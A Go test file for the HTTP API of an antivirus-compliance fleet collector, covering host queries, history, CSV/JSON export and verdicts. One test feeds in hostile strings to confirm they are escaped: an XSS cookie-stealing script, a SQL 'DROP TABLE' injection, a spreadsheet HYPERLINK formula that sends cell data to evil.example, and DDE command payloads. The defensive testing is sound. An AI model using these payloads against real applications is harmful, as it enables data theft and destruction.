package collector

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/avscout/avscout/internal/collector/internal/fleettest"
	"github.com/avscout/avscout/internal/collector/store"
)

// fleet is a small fleet of real reports: host id → golden report.
var fleet = []struct {
	id, golden string
	tags       map[string]string
	seen       time.Duration // how long before "now" it last reported
}{
	{"deb-kes", "debian-kaspersky", map[string]string{"site": "berlin"}, time.Hour},
	{"deb-clean", "debian-clean", map[string]string{"site": "berlin"}, time.Hour},
	{"mac-other", "darwin-other-vendors", map[string]string{"site": "paris"}, time.Hour},
	{"mac-wl", "darwin-whitelabel", nil, time.Hour},
	{"win-left", "windows-leftovers", map[string]string{"site": "paris"}, 60 * time.Hour},
	{"win-kes", "windows-kes-active", nil, 60 * time.Hour},
	{"win-def", "windows-defender-crowdstrike", nil, 2 * time.Hour},
}

// now is when the fleet tests read.
var now = t0.Add(72 * time.Hour)

// sendFleet posts the fleet, each report at its time.
func sendFleet(t *testing.T, e *env) {
	t.Helper()
	for _, h := range fleet {
		at := now.Add(-h.seen)
		e.clock.Set(at)
		r := fleettest.Report(t, h.golden, h.id, h.id, at.Add(-time.Minute))
		r.Tags = h.tags
		e.mustSend(t, r)
	}
	e.clock.Set(now)
}

func TestHostsAPI(t *testing.T) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			e := newEnv(t, d, nil)
			sendFleet(t, e)
			for _, tt := range []struct {
				name, query string
				want        []string
				total       int // when not len(want)
			}{
				{"all", "", []string{"deb-kes", "mac-wl", "win-kes", "deb-clean", "win-left", "mac-other", "win-def"}, 0},
				{"compliant", "compliant=true", []string{"deb-clean", "win-left", "mac-other", "win-def"}, 0},
				{"not_compliant", "compliant=false", []string{"deb-kes", "mac-wl", "win-kes"}, 0},
				{"restricted_product", "product=kaspersky-endpoint-security-windows", []string{"win-kes"}, 0},
				{"leftover_product", "product=kaspersky-internet-security", []string{"win-left"}, 0},
				{"vendor", "vendor=KASPERSKY", []string{"deb-kes", "mac-wl", "win-kes", "win-left"}, 0},
				{"state_restricted", "state=restricted", []string{"deb-kes", "mac-wl", "win-kes"}, 0},
				{"state_unprotected", "state=unprotected", []string{"deb-clean", "win-left"}, 0},
				{"state_clean", "state=clean", []string{"mac-other", "win-def"}, 0},
				{"stale", "stale=true", []string{"win-kes", "win-left"}, 0},
				{"not_stale", "stale=false&state=clean", []string{"mac-other", "win-def"}, 0},
				{"tag", "tag=site%3Dparis", []string{"win-left", "mac-other"}, 0},
				{"search", "search=WIN-", []string{"win-kes", "win-left", "win-def"}, 0},
				{"seen_since_duration", "seen_since=90m", []string{"deb-kes", "mac-wl", "deb-clean", "mac-other"}, 0},
				{"seen_since_time", "seen_since=" + url.QueryEscape(now.Add(-3*time.Hour).Format(time.RFC3339)), []string{"deb-kes", "mac-wl", "deb-clean", "mac-other", "win-def"}, 0},
				{"paging", "limit=3&offset=2", []string{"win-kes", "deb-clean", "win-left"}, 7},
				// KES's bases stopped the day before updates were barred;
				// the leftover's date (win-left) is history, not health.
				{"definitions_stopped", "definitions_stopped=true", []string{"win-kes"}, 0},
				{"definitions_stopped_vendor", "definitions_stopped=true&vendor=kaspersky", []string{"win-kes"}, 0},
				{"definitions_before", "definitions_before=2024-10-01", []string{"win-kes"}, 0},
				{"definitions_before_earlier", "definitions_before=2024-09-28", nil, 0},
				{"definitions_older_than", "definitions_older_than=30", []string{"win-kes"}, 0},
			} {
				t.Run(tt.name, func(t *testing.T) {
					resp := e.get(t, "/v1/hosts?"+tt.query)
					if resp.status != http.StatusOK {
						t.Fatalf("status %d: %s", resp.status, resp.body)
					}
					var page store.HostPage
					resp.json(t, &page)
					var got []string
					for _, h := range page.Hosts {
						got = append(got, h.ID)
					}
					if !slices.Equal(got, tt.want) {
						t.Errorf("hosts %v, want %v", got, tt.want)
					}
					total := tt.total
					if total == 0 {
						total = len(tt.want)
					}
					if page.Total != total {
						t.Errorf("total %d, want %d", page.Total, total)
					}
				})
			}
			for _, q := range []string{"compliant=maybe", "state=bad", "stale=2", "limit=0", "limit=1001", "offset=-1",
				"seen_since=yesterday", "complaint=false", "search=a&search=b", "format=csv", "verdict=ok", "verdict=compliant&verdict=incomplete",
				"definitions_before=2024-02-30", "definitions_before=yesterday", "definitions_older_than=-1", "definitions_stopped=false",
				"definitions_before=2024-01-01&definitions_older_than=3"} {
				resp := e.get(t, "/v1/hosts?"+q)
				msg := resp.errorMessage(t)
				name, _, _ := strings.Cut(q, "=")
				if resp.status != http.StatusBadRequest || !strings.Contains(msg, name) {
					t.Errorf("?%s: %d %q, want 400 naming %s", q, resp.status, msg, name)
				}
			}

			var sum struct {
				store.Summary
				StaleAfterSeconds int64   `json:"stale_after_seconds"`
				CompliantPercent  float64 `json:"compliant_percent"`
			}
			e.get(t, "/v1/summary").json(t, &sum)
			if sum.Hosts != 7 || sum.Restricted != 3 || sum.Unprotected != 2 || sum.Stale != 2 || sum.WhiteLabel != 1 ||
				len(sum.RestrictedProducts) != 4 || sum.StaleAfterSeconds != 48*3600 || sum.CompliantPercent < 57 || sum.CompliantPercent > 58 {
				t.Errorf("summary %+v", sum)
			}
		})
	}
}

func TestHostDetailAPI(t *testing.T) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			e := newEnv(t, d, nil)
			first := fleettest.Report(t, "windows-ultraav-migrated", "pc-1", "PC-1", t0)
			first.Products = append(first.Products, fleettest.Report(t, "windows-kes-active", "x", "x", t0).Products...)
			first.SetVerdict() // Kaspersky active: non_compliant
			e.mustSend(t, first)
			// Kaspersky uninstalled: the second report lacks it.
			e.clock.Set(t0.Add(24 * time.Hour))
			second := fleettest.Report(t, "windows-ultraav-migrated", "pc-1", "PC-1", t0.Add(24*time.Hour))
			e.mustSend(t, second)

			resp := e.get(t, "/v1/hosts/pc-1")
			if resp.status != http.StatusOK {
				t.Fatalf("status %d: %s", resp.status, resp.body)
			}
			var d store.HostDetail
			resp.json(t, &d)
			// UltraAV runs in the golden scan: clean.
			if d.ID != "pc-1" || !d.Compliant || d.Verdict != "compliant" || d.State != store.HostClean || d.Latest.ReportID != second.ReportID {
				t.Errorf("host %+v", d.HostSummary)
			}
			if len(d.Latest.Products) != 2 || len(d.Latest.Products[0].Evidence) == 0 {
				t.Errorf("latest report without its products and evidence: %+v", d.Latest.Products)
			}
			var hist []string
			for _, c := range d.History {
				hist = append(hist, c.Kind+" "+c.Product+" "+c.From+"→"+c.To)
			}
			want := []string{
				"compliance-changed  non-compliant→compliant",
				"product-removed Kaspersky Endpoint Security for Windows active→",
				"first-report  →non-compliant",
			}
			if !slices.Equal(hist, want) {
				t.Errorf("history\n got %q\nwant %q", hist, want)
			}
			if resp := e.get(t, "/v1/hosts/nope"); resp.status != http.StatusNotFound {
				t.Errorf("unknown host: %d %s", resp.status, resp.body)
			}
			// Ids may hold anything, a slash included.
			r := fleettest.Report(t, "debian-clean", "a/b c", "odd", t0)
			e.mustSend(t, r)
			if resp := e.get(t, "/v1/hosts/"+url.PathEscape("a/b c")); resp.status != http.StatusOK {
				t.Errorf("host id with a slash: %d %s", resp.status, resp.body)
			}
		})
	}
}

func TestExportAPI(t *testing.T) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			e := newEnv(t, d, nil)
			sendFleet(t, e)

			resp := e.get(t, "/v1/export?format=csv&tag=site%3Dberlin")
			if resp.status != http.StatusOK || !strings.HasPrefix(resp.header.Get("Content-Type"), "text/csv") {
				t.Fatalf("CSV export: %d %s %s", resp.status, resp.header.Get("Content-Type"), resp.body)
			}
			if cd := resp.header.Get("Content-Disposition"); !strings.Contains(cd, `attachment; filename="avscout-fleet-20261104T100000Z.csv"`) {
				t.Errorf("Content-Disposition %q", cd)
			}
			rows, err := csv.NewReader(bytes.NewReader(resp.body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(rows[0], CSVColumns) {
				t.Errorf("header %q", rows[0])
			}
			want := [][]string{
				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
					"kaspersky-endpoint-security-linux", "Kaspersky", "Kaspersky Endpoint Security for Linux", "12.1.0-2968", "installed", "true", "false", "site=berlin", "non_compliant"},
				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
					"kaspersky-network-agent", "Kaspersky", "Kaspersky Security Center Network Agent", "15.1.0-20748", "installed", "true", "false", "site=berlin", "non_compliant"},
				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
					"clamav", "Cisco Talos (ClamAV)", "ClamAV", "1.0.7+dfsg-1~deb12u1", "installed", "false", "false", "site=berlin", "non_compliant"},
				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
					"microsoft-defender-endpoint", "Microsoft", "Microsoft Defender for Endpoint", "101.24082.0004", "installed", "false", "false", "site=berlin", "non_compliant"},
				{"deb-clean", "deb-clean", "linux", rows[5][3], "2026-11-04T09:00:00Z", "true", "unprotected", "false",
					"", "", "", "", "", "", "", "site=berlin", "compliant"},
			}
			// The latest report of each host: when its scan ran, its id and
			// the digest of the bytes GET /v1/reports/{id}/raw serves.
			for i := range want {
				var host struct {
					LastReportID string `json:"last_report_id"`
				}
				e.get(t, "/v1/hosts/"+url.PathEscape(rows[i+1][0])).json(t, &host)
				id := host.LastReportID
				raw := e.get(t, "/v1/reports/"+id+"/raw")
				sum := sha256.Sum256(raw.body)
				if raw.status != http.StatusOK {
					t.Fatalf("raw report %q of row %d: %d", id, i+1, raw.status)
				}
				want[i] = append(want[i], "2026-11-04T08:59:00Z", id, hex.EncodeToString(sum[:]), "")
				if i < 2 { // the restricted products' rule bars updates
					want[i] = append(want[i], "2024-09-29")
				} else {
					want[i] = append(want[i], "")
				}
			}
			// Each product's evidence, summarised: its first three items.
			want[0] = append(want[0], "dpkg package: kesl 12.1.0-2968 (install ok installed); dpkg package: kesl-gui 12.1.0-2968 (deinstall ok config-files); paths: executable /opt/kaspersky/kesl/bin/kesl-control (script) (+6 more)")
			want[1] = append(want[1], "dpkg package: klnagent64 15.1.0-20748 (install ok installed); paths: executable /opt/kaspersky/klnagent64/bin/klnagent (script); paths path: /opt/kaspersky/klnagent64 (directory, 1 entry)")
			want[2] = append(want[2], "dpkg package: clamav 1.0.7+dfsg-1~deb12u1 (install ok installed)")
			want[3] = append(want[3], "dpkg package: mdatp 101.24082.0004 (install ok installed); paths: executable /opt/microsoft/mdatp/sbin/wdavdaemon (script); paths path: /opt/microsoft/mdatp (directory, 1 entry)")
			want[4] = append(want[4], "")
			if fmt.Sprint(rows[1:]) != fmt.Sprint(want) || rows[1][3] == "" {
				t.Errorf("CSV rows\n got %q\nwant %q", rows[1:], want)
			}

			resp = e.get(t, "/v1/export?format=json&stale=true")
			if resp.status != http.StatusOK || !strings.HasPrefix(resp.header.Get("Content-Type"), "application/json") {
				t.Fatalf("JSON export: %d %s", resp.status, resp.body)
			}
			var doc struct {
				GeneratedAt string `json:"generated_at"`
				Hosts       []struct {
					store.HostSummary
					ReportSHA256 string              `json:"last_report_sha256"`
					Products     []store.HostProduct `json:"products"`
				} `json:"hosts"`
				Count int `json:"count"`
			}
			resp.json(t, &doc)
			if doc.GeneratedAt != "2026-11-04T10:00:00Z" || doc.Count != 2 || len(doc.Hosts) != 2 ||
				doc.Hosts[0].ID != "win-kes" || len(doc.Hosts[0].Products) != 1 || !doc.Hosts[0].Products[0].Restricted ||
				doc.Hosts[1].ID != "win-left" || doc.Hosts[1].Products[0].State != "leftover" || !doc.Hosts[1].Stale {
				t.Errorf("JSON export %+v", doc)
			}
			for _, h := range doc.Hosts {
				raw := e.get(t, "/v1/reports/"+h.LastReportID+"/raw")
				if sum := sha256.Sum256(raw.body); raw.status != http.StatusOK || h.ReportSHA256 != hex.EncodeToString(sum[:]) || h.LastScan.IsZero() {
					t.Errorf("JSON export of %s: report %s, sha256 %q, last scan %v", h.ID, h.LastReportID, h.ReportSHA256, h.LastScan)
				}
			}

			// Nothing matches: a header, or an empty list.
			resp = e.get(t, "/v1/export?product=nothing")
			if resp.status != http.StatusOK || strings.TrimSpace(string(resp.body)) != strings.Join(CSVColumns, ",") {
				t.Errorf("empty CSV export: %d %q", resp.status, resp.body)
			}
			resp = e.get(t, "/v1/export?format=json&product=nothing")
			resp.json(t, &doc)
			if resp.status != http.StatusOK || doc.Count != 0 || len(doc.Hosts) != 0 {
				t.Errorf("empty JSON export: %d %s", resp.status, resp.body)
			}
			for _, q := range []string{"format=xml", "limit=5", "state=nope"} {
				if resp := e.get(t, "/v1/export?"+q); resp.status != http.StatusBadRequest {
					t.Errorf("export ?%s: %d, want 400", q, resp.status)
				}
			}
		})
	}
}

// Agent strings are hostile: stored as sent, returned JSON-escaped, and
// neutralised in CSV.
func TestHostileStringsAPI(t *testing.T) {
	const (
		script  = `<script>alert(document.cookie)</script>`
		sqli    = `x'); DROP TABLE hosts; --`
		formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	)
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			e := newEnv(t, d, nil)
			r := fleettest.Report(t, "windows-kes-active", "evil-1", script, t0)
			r.Tags = map[string]string{"owner": formula, sqli: "@SUM(1+1)*cmd|' /C calc'!A0"}
			r.Products[0].Name = formula
			r.Products[0].Vendor = "+cmd|' /C calc'!A0"
			r.Products[0].Version = "-2+3"
			r.Host.OSVersion = "\tleading tab"
			r.Host.Arch = "\rcr"
			e.mustSend(t, r)

			resp := e.get(t, "/v1/hosts/evil-1")
			if bytes.Contains(resp.body, []byte("<script>")) {
				t.Errorf("host JSON carries raw markup: %s", resp.body)
			}
			var d store.HostDetail
			resp.json(t, &d)
			if d.Hostname != script || d.Tags[sqli] != r.Tags[sqli] || d.Latest.Products[0].Name != formula || d.Restricted[0] != formula {
				t.Errorf("hostile strings not returned verbatim: %+v", d.HostSummary)
			}
			if st := e.stats(t); st.Hosts != 1 || st.Reports != 1 {
				t.Errorf("stats after hostile report: %+v", st)
			}

			resp = e.get(t, "/v1/export?format=csv")
			rows, err := csv.NewReader(bytes.NewReader(resp.body)).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("CSV: %v %q", err, resp.body)
			}
			row := map[string]string{}
			for i, c := range CSVColumns {
				row[c] = rows[1][i]
			}
			for col, want := range map[string]string{
				"hostname":   script,
				"product":    "'" + formula,
				"vendor":     "'+cmd|' /C calc'!A0",
				"version":    "'-2+3",
				"os_version": "'\tleading tab",
				"tags":       "owner=" + formula + "; " + sqli + "=@SUM(1+1)*cmd|' /C calc'!A0",
			} {
				if row[col] != want {
					t.Errorf("CSV %s = %q, want %q", col, row[col], want)
				}
			}
			for col, v := range row {
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					t.Errorf("CSV %s = %q starts a formula", col, v)
				}
			}
			resp = e.get(t, "/v1/export?format=json")
			if bytes.Contains(resp.body, []byte("<script>")) || !json.Valid(resp.body) {
				t.Errorf("JSON export not escaped or not JSON: %s", resp.body)
			}
		})
	}
}

func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
	} {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Incomplete hosts are their own state and verdict in the API, the
// summary and the exports, whether their agent wrote the verdict or is
// older and the collector derives it.
func TestVerdictAPI(t *testing.T) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			e := newEnv(t, d, nil)
			at := now.Add(-time.Hour)
			e.clock.Set(at)
			for id, golden := range map[string]string{"deb-kes": "debian-kaspersky", "deb-clean": "debian-clean", "deb-broken": "debian-incomplete"} {
				e.mustSend(t, fleettest.Report(t, golden, id, id, at.Add(-time.Minute)))
			}
			// An agent older than the verdict: no verdict, and compliant
			// true although dpkg failed (the old rule).
			old := fleettest.Report(t, "debian-incomplete", "deb-old", "deb-old", at.Add(-time.Minute))
			old.Verdict, old.Compliant = "", true
			raw := fleettest.JSON(t, old)
			if bytes.Contains(raw, []byte(`"verdict"`)) {
				t.Fatal("the old agent's report has a verdict")
			}
			e.mustSend(t, old)
			e.clock.Set(now)

			for _, tt := range []struct{ query, want string }{
				{"", "deb-kes deb-broken deb-old deb-clean"}, // restricted, incomplete (by name), unprotected
				{"verdict=incomplete", "deb-broken deb-old"},
				{"verdict=non_compliant", "deb-kes"},
				{"verdict=compliant", "deb-clean"},
				{"state=incomplete", "deb-broken deb-old"},
				{"compliant=false", "deb-kes deb-broken deb-old"},
				{"compliant=true", "deb-clean"},
				{"state=unprotected", "deb-clean"},
			} {
				var page store.HostPage
				e.get(t, "/v1/hosts?"+tt.query).json(t, &page)
				var got []string
				for _, h := range page.Hosts {
					got = append(got, h.ID)
					want := map[string]string{"deb-kes": "non_compliant", "deb-clean": "compliant", "deb-broken": "incomplete", "deb-old": "incomplete"}[h.ID]
					if h.Verdict != want || h.Compliant != (want == "compliant") {
						t.Errorf("%s: verdict %q compliant %v, want %q", h.ID, h.Verdict, h.Compliant, want)
					}
				}
				if strings.Join(got, " ") != tt.want {
					t.Errorf("?%s: hosts %v, want %s", tt.query, got, tt.want)
				}
			}

			var det store.HostDetail
			e.get(t, "/v1/hosts/deb-old").json(t, &det)
			if det.State != store.HostIncomplete || det.Latest.Verdict != "incomplete" || det.Latest.Compliant {
				t.Errorf("old agent's host: state %s, latest verdict %q compliant %v; want incomplete, derived", det.State, det.Latest.Verdict, det.Latest.Compliant)
			}
			if len(det.History) != 1 || det.History[0].To != "incomplete" {
				t.Errorf("history %+v, want a first report that is incomplete", det.History)
			}

			var sum struct {
				store.Summary
				CompliantPercent float64 `json:"compliant_percent"`
			}
			e.get(t, "/v1/summary").json(t, &sum)
			if sum.Hosts != 4 || sum.Compliant != 1 || sum.Incomplete != 2 || sum.Restricted != 1 || sum.Unprotected != 1 || sum.CompliantPercent != 25 {
				t.Errorf("summary %+v", sum)
			}

			resp := e.get(t, "/v1/export?format=csv&verdict=incomplete")
			rows, err := csv.NewReader(bytes.NewReader(resp.body)).ReadAll()
			if err != nil || len(rows) != 3 {
				t.Fatalf("CSV export of incomplete hosts: %v, %q", err, rows)
			}
			col := slices.Index(rows[0], "verdict")
			for _, r := range rows[1:] {
				if r[col] != "incomplete" || r[slices.Index(rows[0], "compliant")] != "false" || r[slices.Index(rows[0], "state")] != "incomplete" {
					t.Errorf("CSV row %q", r)
				}
			}
			var doc struct {
				Hosts []struct {
					ID      string `json:"id"`
					Verdict string `json:"verdict"`
				} `json:"hosts"`
			}
			e.get(t, "/v1/export?format=json&verdict=incomplete").json(t, &doc)
			if len(doc.Hosts) != 2 || doc.Hosts[0].Verdict != "incomplete" || doc.Hosts[1].Verdict != "incomplete" {
				t.Errorf("JSON export %+v", doc)
			}
		})
	}
}
